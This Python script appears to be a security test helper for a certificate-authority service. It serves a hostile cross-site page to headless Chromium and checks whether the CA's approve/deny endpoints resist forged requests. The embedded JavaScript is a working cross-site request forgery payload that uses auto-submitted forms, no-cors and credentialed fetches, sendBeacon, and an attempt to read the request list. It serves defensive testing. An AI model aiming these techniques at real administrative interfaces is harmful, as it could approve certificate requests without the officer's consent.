#!/usr/bin/python3
"""A page of another site, and a browser with an officer at it, for tests/attack/s06_browser.sh.

usage: other_site.py CA_URL USERINFO FOLDER REQUEST... [-- CHROMIUM_OPTION...]

The page has the browser send, to approve or deny the requests, what a page can send without the CA's leave, and try to read. USERINFO is
"user:password" where the officer signs in by Basic beforehand, "" where the browser does it by itself (Negotiate). Prints what the
page saw, one line an attempt; status 0 if it came to its end.
"""

import http.server
import os
import socketserver
import subprocess
import sys
import threading

PAGE = """<!doctype html><script>
const ca = %(ca)r, signIn = %(sign_in)r, ids = %(ids)r;
const pause = ms => new Promise(done => setTimeout(done, ms));
const say = text => fetch("/said", {method: "POST", body: text});
function form(path, type) {
  const frame = document.createElement("iframe"), f = document.createElement("form");
  frame.name = "f" + Math.random();
  document.body.append(frame, f);
  Object.assign(f, {method: "POST", enctype: type, action: ca + path, target: frame.name});
  f.submit();
}
async function attack() {
  open(signIn);
  await pause(4000);
  form(`/dirca/v1/requests/${ids[0]}/approve`, "text/plain");
  form(`/dirca/v1/requests/${ids[1]}/deny`, "multipart/form-data");
  open(`/top?${ids[2]}`);
  await fetch(ca + `/dirca/v1/requests/${ids[3]}/approve`, {method: "POST", mode: "no-cors", credentials: "include",
    body: new Blob(["{}"], {type: "application/json"})}).then(() => say("no-cors sent"), e => say("no-cors " + e));
  navigator.sendBeacon(ca + `/dirca/v1/requests/${ids[4]}/approve`, "x");
  await fetch(ca + `/dirca/v1/requests/${ids[5]}/approve`, {method: "POST", credentials: "include",
    headers: {"Content-Type": "application/json"}}).then(() => say("cors READ"), e => say("cors " + e));
  await fetch(ca + "/dirca/v1/requests", {credentials: "include"}).then(r => r.text()).then(t => say("READ " + t), e => say("get " + e));
  new Image().src = ca + "/dirca/v1/requests";
  await pause(3000);
  await say("end");
}
addEventListener("load", attack);
</script><body>"""

TOP = """<!doctype html><form method="POST" action="%s/dirca/v1/requests/%s/approve"></form>
<script>document.forms[0].submit()</script>"""


class Site(http.server.BaseHTTPRequestHandler):
    page = ca = ""
    ended = threading.Event()

    def do_GET(self):
        path, _, query = self.path.partition("?")
        body = (TOP % (self.ca, query) if path == "/top" else self.page).encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_POST(self):
        said = self.rfile.read(int(self.headers["Content-Length"])).decode()
        self.send_response(204)
        self.end_headers()
        print(said, flush=True)
        if said == "end":
            self.ended.set()

    def log_message(self, *args):
        pass


class Server(socketserver.ThreadingMixIn, http.server.HTTPServer):
    daemon_threads = True


def main():
    arguments = sys.argv[1:]
    options = []
    if "--" in arguments:
        at = arguments.index("--")
        arguments, options = arguments[:at], arguments[at + 1:]
    ca, userinfo, folder, *ids = arguments
    sign_in = (ca.replace("//", f"//{userinfo}@") if userinfo else ca) + "/dirca/v1/requests"
    Site.ca = ca
    Site.page = PAGE % {"ca": ca, "sign_in": sign_in, "ids": ids}
    server = Server(("127.0.0.1", 0), Site)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    # Chromium loads Kerberos from its second start on, once it has met a server that asks for it.
    os.makedirs(f"{folder}/profile")
    with open(f"{folder}/profile/Local State", "w", encoding="ascii") as state:
        state.write('{"net": {"received_http_auth_negotiate_headers": true}}')
    with open(os.path.join(folder, "chromium.log"), "wb") as log:
        browser = subprocess.Popen(
            ["chromium", "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-component-update",
             "--disable-background-networking", "--disable-sync", "--disable-dev-shm-usage", "--disable-popup-blocking",
             "--ignore-certificate-errors", "--remote-debugging-port=0", f"--user-data-dir={folder}/profile", *options,
             f"http://127.0.0.1:{server.server_address[1]}/"],
            stdin=subprocess.DEVNULL, stdout=log, stderr=log, env={**os.environ, "HOME": folder})
        came = Site.ended.wait(60)
        browser.terminate()
        try:
            browser.wait(10)
        except subprocess.TimeoutExpired:
            browser.kill()
            browser.wait()
    return 0 if came else 1


if __name__ == "__main__":
    sys.exit(main())
